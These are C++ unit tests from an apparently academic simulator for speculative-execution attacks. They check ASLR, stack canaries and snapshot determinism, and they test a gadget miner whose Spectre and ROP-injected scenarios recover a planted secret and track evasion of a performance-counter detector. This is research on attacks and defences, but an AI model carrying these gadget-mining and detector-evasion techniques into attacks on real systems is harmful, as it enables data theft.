      "  syscall\n"
      "  movi r0, 2\n"
      "  movi r1, path\n"
      "  syscall\n"
      "  movi r1, 0\n"
      "  call exit_\n"
      ".data\n"
      "path: .asciz \"/bin/child\"\n",
      "/bin/host");
  h.run_program("/bin/host");
  EXPECT_EQ(h.kernel().output_string(), "AA");
  EXPECT_EQ(h.kernel().execve_count(), 2);
}

TEST(Kernel, InInjectedBinaryTracksExecveDepth) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "spin_child:\n"
      "  addi r4, r4, 1\n"
      "  movi r5, 2000\n"
      "  cmpltu r5, r4, r5\n"
      "  bnez r5, spin_child\n"
      "  movi r1, 0\n"
      "  call exit_\n",
      "/bin/child", 0x200000);
  h.add_program(
      "_start:\n"
      "  movi r0, 2\n"
      "  movi r1, path\n"
      "  syscall\n"
      "  movi r1, 0\n"
      "  call exit_\n"
      ".data\n"
      "path: .asciz \"/bin/child\"\n",
      "/bin/host");
  h.kernel().start_with_strings("/bin/host", {});
  EXPECT_FALSE(h.kernel().in_injected_binary());
  // Step until inside the child, observing the flag flip.
  bool saw_injected = false;
  ASSERT_TRUE(h.run_to_halt(1'000'000, [&] {
    if (h.kernel().in_injected_binary()) saw_injected = true;
  }));
  EXPECT_TRUE(saw_injected);
  EXPECT_FALSE(h.kernel().in_injected_binary());
}

TEST(Kernel, ExecveDepthIsBounded) {
  // A binary that execve's itself: the chain must stop at the configured
  // depth instead of recursing forever.
  sim::KernelConfig kcfg;
  kcfg.max_execve_depth = 2;
  SimHarness h(kcfg);
  h.add_program(
      "_start:\n"
      "  movi r0, 2\n"
      "  movi r1, path\n"
      "  syscall\n"
      "  movi r1, 0\n"
      "  call exit_\n"
      ".data\npath: .asciz \"/bin/self\"\n",
      "/bin/self");
  EXPECT_EQ(h.run_program("/bin/self", {}, 50'000'000), StopReason::kHalted);
  EXPECT_EQ(h.kernel().execve_count(), 2);
}

TEST(Kernel, ArgvWithManyArguments) {
  SimHarness h;
  // exit(argc + len(argv[4]))
  h.add_program(
      "_start:\n"
      "  load r4, [r3+32]\n"
      "  add r1, r1, r4\n"
      "  call exit_\n",
      "/bin/t");
  h.run_program("/bin/t", {"a", "bb", "ccc", "dddd", "eeeee"});
  EXPECT_EQ(h.kernel().exit_code(), 5 + 5);
}

TEST(Kernel, EmptyArgumentIsMarshalled) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  load r1, [r3+8]\n"  // len(argv[1]) == 0
      "  addi r1, r1, 9\n"
      "  call exit_\n",
      "/bin/t");
  h.run_program("/bin/t", {"name", ""});
  EXPECT_EQ(h.kernel().exit_code(), 9);
}

TEST(Kernel, AslrShiftsImageBase) {
  sim::KernelConfig k1;
  k1.aslr = true;
  k1.seed = 1;
  SimHarness h1(k1);
  h1.add_program("_start:\n  movi r1, 9\n  call exit_\n", "/bin/t");
  EXPECT_EQ(h1.run_program("/bin/t"), StopReason::kHalted);
  EXPECT_EQ(h1.kernel().exit_code(), 9);
  const auto d1 = h1.kernel().main_image().base_delta;

  sim::KernelConfig k2 = k1;
  k2.seed = 99;
  SimHarness h2(k2);
  h2.add_program("_start:\n  movi r1, 9\n  call exit_\n", "/bin/t");
  EXPECT_EQ(h2.run_program("/bin/t"), StopReason::kHalted);
  const auto d2 = h2.kernel().main_image().base_delta;

  EXPECT_NE(d1, d2) << "different seeds must randomise differently";
  EXPECT_NE(d1, 0u);
}

TEST(Kernel, AslrRelocatesDataReferences) {
  sim::KernelConfig k;
  k.aslr = true;
  k.seed = 7;
  SimHarness h(k);
  h.add_program(
      "_start:\n"
      "  movi r4, table\n"
      "  load r5, [r4]\n"      // table[0] = address of value (relocated)
      "  load r1, [r5]\n"
      "  call exit_\n"
      ".data\n"
      "value: .word 123\n"
      "table: .word value\n",
      "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t"), StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 123);
}

TEST(Kernel, ResolvedSymbolAccountsForAslr) {
  sim::KernelConfig k;
  k.aslr = true;
  k.seed = 5;
  SimHarness h(k);
  const auto& prog = h.add_program(
      "_start:\n  movi r1, 0\n  call exit_\n"
      ".data\nmark: .word 0xbeef\n",
      "/bin/t");
  h.run_program("/bin/t");
  const auto addr = h.kernel().resolved_symbol("/bin/t", "mark");
  EXPECT_EQ(addr, prog.symbol("mark") + h.kernel().main_image().base_delta);
  EXPECT_EQ(h.machine().memory().read_u64(addr), 0xbeefu);
}

TEST(Kernel, CanaryCheckPassesWhenUntouched) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r4, __canary\n"
      "  load r4, [r4]\n"
      "  call canary_check\n"
      "  movi r1, 3\n"
      "  call exit_\n",
      "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t"), StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 3);
}

TEST(Kernel, CanaryMismatchAborts) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r4, __canary\n"
      "  load r4, [r4]\n"
      "  addi r4, r4, 1\n"   // corrupt the in-frame copy
      "  call canary_check\n"
      "  movi r1, 3\n"
      "  call exit_\n",
      "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t"), StopReason::kFault);
  EXPECT_EQ(h.machine().cpu().fault().kind, FaultKind::kStackCanary);
}

TEST(Kernel, CanaryIsRandomPerProcess) {
  sim::KernelConfig kc1;
  sim::KernelConfig kc2;
  kc2.seed = 1234;
  SimHarness h1(kc1), h2(kc2);
  h1.add_program("_start:\n  movi r1, 0\n  call exit_\n", "/bin/t");
  h2.add_program("_start:\n  movi r1, 0\n  call exit_\n", "/bin/t");
  h1.run_program("/bin/t");
  h2.run_program("/bin/t");
  const auto c1 = h1.machine().memory().read_u64(
      h1.kernel().resolved_symbol("/bin/t", "__canary"));
  const auto c2 = h2.machine().memory().read_u64(
      h2.kernel().resolved_symbol("/bin/t", "__canary"));
  EXPECT_NE(c1, 0u);
  EXPECT_NE(c1, c2);
}

TEST(Kernel, StackIsNotExecutable) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  mov r4, sp\n"
      "  addi r4, r4, -128\n"
      "  jmpr r4\n",
      "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t"), StopReason::kFault);
  EXPECT_EQ(h.machine().cpu().fault().kind, FaultKind::kFetchPermission);
}

}  // namespace
}  // namespace crs
