#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>

#include "core/report.hpp"
#include "hid/features.hpp"
#include "support/error.hpp"
#include "support/strings.hpp"

namespace crs::core {
namespace {

std::vector<hid::WindowSample> fake_windows() {
  std::vector<hid::WindowSample> out(3);
  for (std::size_t i = 0; i < out.size(); ++i) {
    out[i].delta[static_cast<std::size_t>(sim::Event::kInstructions)] =
        1000 * (i + 1);
    out[i].delta[static_cast<std::size_t>(sim::Event::kCycles)] =
        2000 * (i + 1);
    out[i].delta[static_cast<std::size_t>(sim::Event::kL1dMisses)] = 5 * i;
    out[i].injected = i == 1;
  }
  return out;
}

TEST(Report, WindowsCsvHasHeaderAndRows) {
  const auto csv = windows_to_csv(fake_windows());
  const auto lines = split(csv, '\n');
  ASSERT_GE(lines.size(), 4u);  // header + 3 rows (+ trailing empty)
  EXPECT_NE(lines[0].find("cycles,instructions"), std::string::npos);
  EXPECT_NE(lines[0].find("total_cache_accesses,injected"), std::string::npos);
  // Column count = universe + injected flag, constant across rows.
  const auto header_cols = split(lines[0], ',').size();
  EXPECT_EQ(header_cols, hid::feature_universe_size() + 1);
  for (int r = 1; r <= 3; ++r) {
    EXPECT_EQ(split(lines[r], ',').size(), header_cols) << "row " << r;
  }
  // The injected flag lands in the last column.
  EXPECT_EQ(split(lines[1], ',').back(), "0");
  EXPECT_EQ(split(lines[2], ',').back(), "1");
}

TEST(Report, CampaignCsvRoundTripsRecords) {
  CampaignResult result;
  AttemptRecord a;
  a.attempt = 1;
  a.detection_rate = 0.25;
  a.evaded = true;
  a.secret_recovered = true;
  a.attack_window_count = 42;
  result.attempts.push_back(a);
  a.attempt = 2;
  a.detection_rate = 0.95;
  a.detected = true;
  a.evaded = false;
  a.mutated_after = true;
  result.attempts.push_back(a);

  const auto csv = campaign_to_csv(result);
  const auto lines = split(csv, '\n');
  ASSERT_GE(lines.size(), 3u);
  EXPECT_NE(lines[0].find("attempt,detection_rate"), std::string::npos);
  EXPECT_NE(lines[1].find("1,0.2500,0,1,0,1,"), std::string::npos);
  EXPECT_NE(lines[2].find("2,0.9500,1,0,1,1,"), std::string::npos);
  EXPECT_NE(lines[2].find("\"a="), std::string::npos) << "variant quoted";
}

TEST(Report, WriteTextFileRoundTrip) {
  const std::string path = "/tmp/crs_report_test.csv";
  write_text_file(path, "a,b\n1,2\n");
  std::ifstream f(path);
  std::string line;
  std::getline(f, line);
  EXPECT_EQ(line, "a,b");
  std::remove(path.c_str());
}

TEST(Report, WriteToBadPathThrows) {
  EXPECT_THROW(write_text_file("/nonexistent-dir/x.csv", "data"), Error);
}

TEST(Report, EmptyInputsProduceHeadersOnly) {
  const auto wcsv = windows_to_csv({});
  EXPECT_EQ(split(wcsv, '\n').size(), 2u);  // header + trailing empty
  const auto ccsv = campaign_to_csv(CampaignResult{});
  EXPECT_EQ(split(ccsv, '\n').size(), 2u);
}

}  // namespace
}  // namespace crs::core
