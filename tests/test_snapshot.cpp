// Snapshot/restore fast-reset engine: the differential contract.
//
// The whole subsystem hangs on one promise — a restored machine is
// indistinguishable from a freshly constructed one, and a ScenarioSession
// attempt is bit-identical to the legacy rebuild-everything run_scenario.
// These tests pin that promise from every angle: scenario traces, campaign
// results across thread counts, fuzz-corpus differential runs against the
// pooled-machine path, memo-cache semantics and MachinePool reuse.
#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <vector>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "core/campaign.hpp"
#include "core/corpus.hpp"
#include "core/report.hpp"
#include "core/scenario.hpp"
#include "fuzz/differ.hpp"
#include "fuzz/generator.hpp"
#include "obs/metrics.hpp"
#include "sim/snapshot.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"

namespace crs {
namespace {

/// Scoped fast-reset mode override (restores the previous mode on exit).
class FastResetMode {
 public:
  explicit FastResetMode(bool enabled) : prev_(fast_reset_enabled()) {
    set_fast_reset_enabled(enabled);
  }
  ~FastResetMode() { set_fast_reset_enabled(prev_); }

 private:
  bool prev_;
};

core::ScenarioConfig small_scenario() {
  core::ScenarioConfig config;
  config.host = "basicmath";
  config.host_scale = 300;
  config.secret = "SNAP-SECRET";
  config.rop_injected = true;
  config.perturb = true;
  config.seed = 99;
  return config;
}

/// Everything observable about a run, serialised for exact comparison.
std::string run_fingerprint(const core::ScenarioRun& run) {
  std::ostringstream os;
  os << core::windows_to_csv(run.profile.windows);
  os << "attack_csv:" << core::windows_to_csv(run.attack_windows);
  os << "host_csv:" << core::windows_to_csv(run.host_windows);
  os << "launched:" << run.attack_launched
     << " recovered:" << run.secret_recovered << " secret:" << run.recovered
     << " host_ipc:" << run.host_ipc << " cycles:" << run.profile.cycles
     << " instructions:" << run.profile.instructions
     << " mitigation_events:" << run.mitigation.total_events();
  return os.str();
}

TEST(ScenarioSession, FirstAttemptMatchesLegacyRunScenario) {
  const core::ScenarioConfig config = small_scenario();

  std::string legacy;
  {
    FastResetMode off(false);
    legacy = run_fingerprint(core::run_scenario(config));
  }
  std::string fast;
  {
    FastResetMode on(true);
    fast = run_fingerprint(core::run_scenario(config));
  }
  EXPECT_EQ(legacy, fast);
}

TEST(ScenarioSession, RestoredAttemptMatchesFreshSession) {
  FastResetMode on(true);
  const core::ScenarioConfig config = small_scenario();

  core::ScenarioSession session(config);
  (void)session.run_attempt(config.seed);       // dirty the machine
  (void)session.run_attempt(config.seed + 7);   // restore + dirty again
  const std::string restored =
      run_fingerprint(session.run_attempt(config.seed + 3));

  core::ScenarioSession fresh(config);
  const std::string first =
      run_fingerprint(fresh.run_attempt(config.seed + 3));

  EXPECT_EQ(restored, first);
  EXPECT_EQ(session.attempts(), 3u);
}

TEST(ScenarioSession, RestoredStandaloneAttackMatchesFresh) {
  FastResetMode on(true);
  core::ScenarioConfig config = small_scenario();
  config.rop_injected = false;
  config.perturb = false;

  core::ScenarioSession session(config);
  (void)session.run_attempt(config.seed);
  const std::string restored =
      run_fingerprint(session.run_attempt(config.seed + 1));

  core::ScenarioSession fresh(config);
  const std::string first =
      run_fingerprint(fresh.run_attempt(config.seed + 1));
  EXPECT_EQ(restored, first);
}

TEST(ScenarioSession, DynamicPerturbParamsRebuildOnlyAttackBinary) {
  FastResetMode on(true);
  const core::ScenarioConfig config = small_scenario();

  perturb::PerturbParams mutated = config.perturb_params;
  mutated.delay += 250;
  mutated.loop_count += 3;

  core::ScenarioSession session(config);
  (void)session.run_attempt(config.seed);
  const std::string mutated_in_session =
      run_fingerprint(session.run_attempt(config.seed + 5, mutated));
  // Switching back must also reproduce the original-params run exactly.
  const std::string back =
      run_fingerprint(session.run_attempt(config.seed + 6));

  core::ScenarioConfig mcfg = config;
  mcfg.perturb_params = mutated;
  core::ScenarioSession fresh_mutated(mcfg);
  EXPECT_EQ(mutated_in_session,
            run_fingerprint(fresh_mutated.run_attempt(config.seed + 5)));

  core::ScenarioSession fresh_back(config);
  EXPECT_EQ(back, run_fingerprint(fresh_back.run_attempt(config.seed + 6)));
}

TEST(ScenarioSession, SnapshotOffFallsBackToRebuild) {
  FastResetMode off(false);
  const core::ScenarioConfig config = small_scenario();
  core::ScenarioSession session(config);
  EXPECT_FALSE(session.snapshot_mode());
  const std::string a = run_fingerprint(session.run_attempt(config.seed));
  // Second attempt reconstructs machine/kernel (legacy semantics) — still
  // identical to a fresh run with the same seed.
  const std::string b = run_fingerprint(session.run_attempt(config.seed));
  EXPECT_EQ(a, b);
}

/// Campaign results (records + published metrics) must be identical for any
/// worker count, in both snapshot and legacy modes.
TEST(CampaignDeterminism, ThreadCountInvariantWithFastReset) {
  core::CorpusConfig cc;
  cc.windows_per_class = 24;
  cc.seed = 5;
  const ml::Dataset benign = core::build_benign_corpus(cc);
  const ml::Dataset attack = core::build_attack_corpus(cc);

  core::CampaignConfig config;
  config.attempts = 4;
  config.seed = 11;
  config.scenario = small_scenario();

  const auto fingerprint = [&](unsigned threads) {
    set_thread_override(threads);
    obs::MetricsRegistry::instance().reset_values();
    const core::CampaignResult result =
        core::run_campaign(config, benign, attack);
    std::ostringstream os;
    for (const auto& a : result.attempts) {
      os << a.attempt << ':' << a.detection_rate << ':' << a.sim_cycles << ':'
         << a.secret_recovered << ':' << a.host_ipc << ':'
         << a.attack_window_count << '\n';
    }
    os << obs::MetricsRegistry::instance().csv();
    set_thread_override(0);
    return os.str();
  };

  FastResetMode on(true);
  const std::string one = fingerprint(1);
  EXPECT_EQ(one, fingerprint(2));
  EXPECT_EQ(one, fingerprint(8));

  // --snapshot=off is a cost switch, not a results switch: the legacy
  // rebuild-everything path draws the same randomness and must reproduce
  // the campaign byte-for-byte.
  FastResetMode off(false);
  EXPECT_EQ(one, fingerprint(1));
}

/// The fuzz differ's pooled-machine path: a machine acquired from the pool
/// (and previously dirtied by another program) must behave exactly like a
/// freshly constructed one, for every corpus program.
TEST(FuzzDifferential, PooledMachineMatchesFreshBuild) {
  fuzz::GeneratorOptions options;
  options.allow_rdcycle = false;
  const fuzz::RunLimits limits;
  const fuzz::ExecConfig base_config;

  for (std::uint64_t i = 0; i < 6; ++i) {
    Rng rng(derive_seed(0xF00D, i));
    const fuzz::FuzzProgram prog = fuzz::generate_program(rng, options);
    const sim::Program binary =
        casm::assemble(prog.source() + casm::runtime_library(),
                       {.name = "fuzz", .link_base = 0x10000});

    fuzz::ExecResult fresh;
    {
      FastResetMode off(false);
      fresh = fuzz::run_under_config(binary, base_config, limits,
                                     prog.uses_smc);
    }
    FastResetMode on(true);
    // Twice: the first acquire constructs, the second restores a machine the
    // first run dirtied — both must match the fresh build byte-for-byte.
    for (int round = 0; round < 2; ++round) {
      const fuzz::ExecResult pooled = fuzz::run_under_config(
          binary, base_config, limits, prog.uses_smc);
      const std::string diff =
          fuzz::compare_results(fresh, pooled, /*arch_only=*/false);
      EXPECT_EQ(diff, "") << "program " << i << " round " << round;
    }
  }
}

TEST(MemoCacheTest, HitsMissesAndDisableBypass) {
  FastResetMode on(true);
  MemoCache<int> cache;
  int builds = 0;
  const auto build = [&] { return ++builds; };
  EXPECT_EQ(*cache.get_or_build(1, build), 1);
  EXPECT_EQ(*cache.get_or_build(1, build), 1);  // cached
  EXPECT_EQ(*cache.get_or_build(2, build), 2);
  EXPECT_EQ(cache.hits(), 1u);
  EXPECT_EQ(cache.misses(), 2u);
  EXPECT_EQ(cache.size(), 2u);

  set_fast_reset_enabled(false);
  EXPECT_EQ(*cache.get_or_build(1, build), 3);  // bypass: rebuilt
  EXPECT_EQ(cache.size(), 2u);                  // nothing new cached
  set_fast_reset_enabled(true);
  EXPECT_EQ(*cache.get_or_build(1, build), 1);  // cache intact
}

TEST(MachinePoolTest, RestoresToPristineAndEvictsLru) {
  FastResetMode on(true);
  sim::MachinePool pool(2);

  sim::MachineConfig a;
  sim::MachineConfig b;
  b.cpu.decode_cache = false;
  sim::MachineConfig c;
  c.memory_size = 8 * 1024 * 1024;

  sim::Machine& ma = pool.acquire(a);
  // Dirty it the way a run would: map a page, write, advance counters.
  ma.memory().set_permissions(0, sim::Memory::kPageSize, sim::kPermRW);
  ma.memory().write_u64(64, 0xDEADBEEF);
  EXPECT_EQ(pool.misses(), 1u);

  sim::Machine& ma2 = pool.acquire(a);
  EXPECT_EQ(&ma2, &ma);  // same pooled machine...
  EXPECT_EQ(pool.hits(), 1u);
  // ...restored: bytes zeroed, permissions dropped, but version advanced.
  EXPECT_EQ(ma2.memory().read_u64(64), 0u);
  EXPECT_EQ(ma2.memory().permissions_at(0), sim::kPermNone);
  EXPECT_GT(ma2.memory().page_version(0), 1u);
  EXPECT_EQ(ma2.cpu().retired(), 0u);

  (void)pool.acquire(b);
  EXPECT_EQ(pool.size(), 2u);
  (void)pool.acquire(c);  // evicts the LRU entry (a)
  EXPECT_EQ(pool.size(), 2u);
  (void)pool.acquire(a);  // reconstructed, not restored
  EXPECT_EQ(pool.misses(), 4u);
}

TEST(SnapshotTest, RestoreBumpsVersionsAndRewritesBytes) {
  sim::Machine machine;
  sim::MachineSnapshot snap = machine.snapshot();
  EXPECT_EQ(snap.stored_page_count(), 0u);  // fresh machine: all pristine

  auto& mem = machine.memory();
  mem.set_permissions(0, 2 * sim::Memory::kPageSize, sim::kPermRW);
  mem.write_u64(8, 0x1111);
  mem.write_u64(sim::Memory::kPageSize + 8, 0x2222);
  const std::uint32_t dirty_version = mem.page_version(0);

  machine.restore(snap);
  EXPECT_EQ(snap.last_restored_pages(), 2u);
  EXPECT_EQ(mem.read_u64(8), 0u);
  EXPECT_EQ(mem.permissions_at(0), sim::kPermNone);
  // The invariant the decode cache depends on: versions only ever advance.
  EXPECT_GT(mem.page_version(0), dirty_version);

  // Untouched attempt: nothing to restore (dirty tracking re-baselined).
  machine.restore(snap);
  EXPECT_EQ(snap.last_restored_pages(), 0u);
  EXPECT_EQ(snap.restore_count(), 2u);
}

TEST(SnapshotTest, MemoStatsExposeScenarioCaches) {
  FastResetMode on(true);
  const auto before = core::scenario_memo_stats();
  core::ScenarioConfig config = small_scenario();
  config.seed = 0xBEEF;  // unique per-test key so misses are guaranteed
  core::warm_scenario_memo(config);
  core::ScenarioSession session(config);  // hits the warmed caches
  const auto after = core::scenario_memo_stats();
  EXPECT_GT(after.workload_misses, before.workload_misses);
  EXPECT_GT(after.plan_misses, before.plan_misses);
  EXPECT_GT(after.workload_hits, before.workload_hits);
  EXPECT_GT(after.plan_hits, before.plan_hits);
  EXPECT_GT(after.attack_hits + after.attack_misses,
            before.attack_hits + before.attack_misses);
}

}  // namespace
}  // namespace crs
