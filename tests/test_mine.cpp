// Tier-7: speculation-aware gadget mining (src/mine).
//
// Property contract of the miner:
//   * every mined gadget validates dynamically — the transient replay either
//     leaks a planted secret byte or observably perturbs the probe set;
//   * mined sets are byte-identical for any CRS_THREADS and with memoized
//     per-binary recon on or off;
//   * hand-written true seeds are found, hand-written false seeds (fenced,
//     fence-in-window, out-of-window, clean) are rejected;
//   * every scenario-eligible gadget replays as a real leak through
//     core::run_scenario, standalone and ROP-injected.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "core/job.hpp"
#include "core/scenario.hpp"
#include "mine/mine.hpp"
#include "mitigate/fence_pass.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"

#ifndef CRS_FUZZ_CORPUS_DIR
#define CRS_FUZZ_CORPUS_DIR "tests/fuzz_corpus"
#endif

namespace {

using namespace crs;

std::string read_seed(const std::string& name) {
  const std::string path = std::string(CRS_FUZZ_CORPUS_DIR) + "/" + name;
  std::ifstream in(path);
  EXPECT_TRUE(in.good()) << "cannot open " << path;
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

sim::Program assemble_seed(const std::string& source,
                           const mine::MineOptions& opt = {}) {
  return casm::assemble(source + casm::runtime_library(),
                        {.name = "seed", .link_base = opt.link_base});
}

std::vector<mine::WindowCandidate> classify_seed(
    const std::string& name, const mine::MineOptions& opt = {}) {
  const sim::Program program = assemble_seed(read_seed(name), opt);
  return mine::classify_program(program, opt);
}

/// Small deterministic corpus reused by the property tests: a few biased
/// generated programs plus both hand-written true seeds.
mine::CorpusOptions small_corpus() {
  mine::CorpusOptions opt;
  opt.generated = 3;
  opt.seed = 2026;
  opt.gadget_bias = 60;
  opt.sources.emplace_back("mine_true_pht.casm", read_seed("mine_true_pht.casm"));
  opt.sources.emplace_back("mine_true_rsb.casm", read_seed("mine_true_rsb.casm"));
  return opt;
}

// --- classifier precision on hand seeds -----------------------------------

TEST(MineClassify, FindsTruePhtSeed) {
  const auto cands = classify_seed("mine_true_pht.casm");
  ASSERT_EQ(cands.size(), 1u);
  const auto& c = cands[0];
  EXPECT_EQ(c.trigger, mine::TriggerKind::kCondBranch);
  EXPECT_FALSE(c.window_taken);  // the leak body is the fall-through side
  EXPECT_EQ(c.attacker_reg, 1);
  EXPECT_EQ(c.load_width, 1);
  EXPECT_GT(c.load_addr, c.window_addr);
  EXPECT_GT(c.xmit_addr, c.load_addr);
  EXPECT_LE(c.window_len, 7);
}

TEST(MineClassify, FindsTrueRsbSeed) {
  const auto cands = classify_seed("mine_true_rsb.casm");
  ASSERT_EQ(cands.size(), 1u);
  EXPECT_EQ(cands[0].trigger, mine::TriggerKind::kPostCall);
  EXPECT_EQ(cands[0].attacker_reg, 1);
}

TEST(MineClassify, RejectsFenceBetweenLoadAndTransmit) {
  EXPECT_TRUE(classify_seed("mine_false_fence_between.casm").empty());
}

TEST(MineClassify, RejectsTransmitOutsideSpeculationWindow) {
  EXPECT_TRUE(classify_seed("mine_false_out_of_window.casm").empty());
}

TEST(MineClassify, RejectsCleanProgram) {
  EXPECT_TRUE(classify_seed("mine_false_clean.casm").empty());
}

TEST(MineClassify, FencePassHintsCloseCondBranchWindows) {
  // The same transmitter shape classifies before the mitigation fence pass
  // and must stop classifying after it plants branch hints.
  const mine::MineOptions opt;
  sim::Program program = assemble_seed(read_seed("mine_false_fenced.casm"), opt);
  ASSERT_EQ(mine::classify_program(program, opt).size(), 1u);
  const auto stats = mitigate::insert_bounds_fences(program);
  EXPECT_GT(stats.fences_planted, 0u);
  EXPECT_TRUE(mine::classify_program(program, opt).empty());
}

// --- dynamic validation property ------------------------------------------

TEST(MineProperties, EveryMinedGadgetValidatesDynamically) {
  const mine::CorpusReport report = mine::mine_corpus(small_corpus());
  EXPECT_GE(report.gadgets, 3u);
  for (const auto& b : report.binaries) {
    EXPECT_TRUE(b.error.empty()) << b.name << ": " << b.error;
    for (const auto& g : b.gadgets) {
      EXPECT_NE(g.validation, mine::Validation::kNone)
          << b.name << " gadget @" << std::hex << g.window.window_addr;
      if (g.scenario_eligible) {
        EXPECT_FALSE(g.attack_source.empty());
      }
    }
  }
  EXPECT_EQ(report.gadgets, report.leaks + report.perturbs);
}

TEST(MineProperties, MinedSetByteIdenticalForAnyThreadCount) {
  const auto opt = small_corpus();
  std::vector<std::string> csvs;
  for (const unsigned threads : {1u, 2u, 8u}) {
    set_thread_override(threads);
    csvs.push_back(mine::corpus_csv(mine::mine_corpus(opt)));
  }
  set_thread_override(0);
  EXPECT_EQ(csvs[0], csvs[1]);
  EXPECT_EQ(csvs[0], csvs[2]);
  EXPECT_NE(csvs[0].find("leak"), std::string::npos);
}

TEST(MineProperties, MinedSetByteIdenticalWithMemoizedReconOff) {
  const auto opt = small_corpus();
  const std::string memoized = mine::corpus_csv(mine::mine_corpus(opt));
  const auto stats_before = mine::mine_memo_stats();
  const bool was_enabled = fast_reset_enabled();
  set_fast_reset_enabled(false);
  const std::string rebuilt = mine::corpus_csv(mine::mine_corpus(opt));
  set_fast_reset_enabled(was_enabled);
  EXPECT_EQ(memoized, rebuilt);
  // With memoization back on, re-mining the same corpus is pure cache hits.
  const std::string replayed = mine::corpus_csv(mine::mine_corpus(opt));
  EXPECT_EQ(memoized, replayed);
  const auto stats_after = mine::mine_memo_stats();
  EXPECT_GT(stats_after.hits, stats_before.hits);
}

// --- class split -----------------------------------------------------------

TEST(MineProperties, PostCallUpgradesToCrSpectreOnlyWhenRopDrivable) {
  // The runtime library provides `pop r0..r3; ret` and a syscall gadget, so
  // a window fed by r1 is drivable by a classic ROP chain -> cr-spectre. A
  // window fed by r4 has no matching pop gadget -> plain spectre-rsb.
  const std::string r1_src = read_seed("mine_true_rsb.casm");
  std::string r4_src = r1_src;
  const auto pos = r4_src.find("add r12, r12, r1");
  ASSERT_NE(pos, std::string::npos);
  r4_src.replace(pos, 16, "add r12, r12, r4");

  mine::MineOptions opt;
  const auto r1_report = mine::mine_source("rsb_r1", r1_src, opt);
  ASSERT_EQ(r1_report.gadgets.size(), 1u);
  EXPECT_EQ(r1_report.gadgets[0].cls, mine::GadgetClass::kCrSpectre);

  opt.attacker_regs = {4};
  const auto r4_report = mine::mine_source("rsb_r4", r4_src, opt);
  ASSERT_EQ(r4_report.gadgets.size(), 1u);
  EXPECT_EQ(r4_report.gadgets[0].cls, mine::GadgetClass::kRsb);
}

// --- mined scenarios replay as real leaks ----------------------------------

TEST(MineScenario, StandaloneReplayRecoversSecret) {
  const auto report =
      mine::mine_source("mine_true_pht.casm", read_seed("mine_true_pht.casm"));
  ASSERT_EQ(report.gadgets.size(), 1u);
  const auto& g = report.gadgets[0];
  ASSERT_TRUE(g.scenario_eligible);

  core::ScenarioConfig sc =
      mine::mined_scenario(g, "CRSPECTRE-SECRET", /*injected=*/false);
  const core::ScenarioRun run = core::run_scenario(sc);
  EXPECT_TRUE(run.attack_launched);
  EXPECT_TRUE(run.secret_recovered) << "recovered: '" << run.recovered << "'";
  EXPECT_EQ(run.recovered, "CRSPECTRE-SECRET");
}

TEST(MineScenario, InjectedReplayLeaksHostSecret) {
  const auto report =
      mine::mine_source("mine_true_rsb.casm", read_seed("mine_true_rsb.casm"));
  ASSERT_EQ(report.gadgets.size(), 1u);
  ASSERT_TRUE(report.gadgets[0].scenario_eligible);

  core::ScenarioConfig sc = mine::mined_scenario(
      report.gadgets[0], "CRSPECTRE-SECRET", /*injected=*/true);
  sc.host_scale = 4000;
  const core::ScenarioRun run = core::run_scenario(sc);
  EXPECT_TRUE(run.attack_launched);
  EXPECT_TRUE(run.secret_recovered) << "recovered: '" << run.recovered << "'";
}

// --- job-spec round trip ----------------------------------------------------

TEST(MineJobSpec, MinedSourceRoundTripsThroughJobSpec) {
  core::JobSpec spec;
  spec.kind = core::JobKind::kScenario;
  spec.id = 7;
  spec.scenario.attempts = 2;
  spec.scenario.config.rop_injected = false;
  spec.scenario.config.mined_attack_source =
      "; mined replay\n_start:\n  halt\n";

  const std::string text = core::serialize_job(spec);
  EXPECT_NE(text.find("mined.source="), std::string::npos);
  const core::JobSpec parsed = core::parse_job(text);
  EXPECT_EQ(parsed.scenario.config.mined_attack_source,
            spec.scenario.config.mined_attack_source);
  // Round-tripping the parsed spec is byte-stable.
  EXPECT_EQ(core::serialize_job(parsed), text);

  // Configs without a mined source do not emit the key at all.
  spec.scenario.config.mined_attack_source.clear();
  EXPECT_EQ(core::serialize_job(spec).find("mined.source="),
            std::string::npos);
}

}  // namespace
