// Threaded-code block engine: bit-identity with the interpreter, coherence
// of the translated-block cache against every invalidation source the
// page-version scheme covers (mid-run fence-pass rewrites, snapshot
// restore, sibling-page invalidation of straddling blocks), and budget
// semantics at chunked-run boundaries.
#include <gtest/gtest.h>

#include <tuple>

#include "attack/spectre.hpp"
#include "harness.hpp"
#include "mitigate/fence_pass.hpp"
#include "sim/block_cache.hpp"
#include "sim/snapshot.hpp"
#include "workloads/workloads.hpp"

namespace crs {
namespace {

using sim::BlockCache;
using sim::ExecEngine;
using sim::Memory;
using sim::StopReason;
using test::SimHarness;

// Writes one encoded instruction at `addr` (bumps the page version, which is
// fine: these run before the machine starts, or deliberately mid-test).
void put(Memory& mem, std::uint64_t addr, isa::Opcode op, int rd = 0,
         int rs1 = 0, int rs2 = 0, std::int32_t imm = 0) {
  isa::Instruction in;
  in.op = op;
  in.rd = static_cast<std::uint8_t>(rd);
  in.rs1 = static_cast<std::uint8_t>(rs1);
  in.rs2 = static_cast<std::uint8_t>(rs2);
  in.imm = imm;
  mem.write_bytes(addr, isa::encode(in));
}

sim::MachineConfig engine_config(ExecEngine engine) {
  sim::MachineConfig mc;
  mc.cpu.exec_engine = engine;
  return mc;
}

// The block engine is a pure simulator-speed device: retired count, cycle
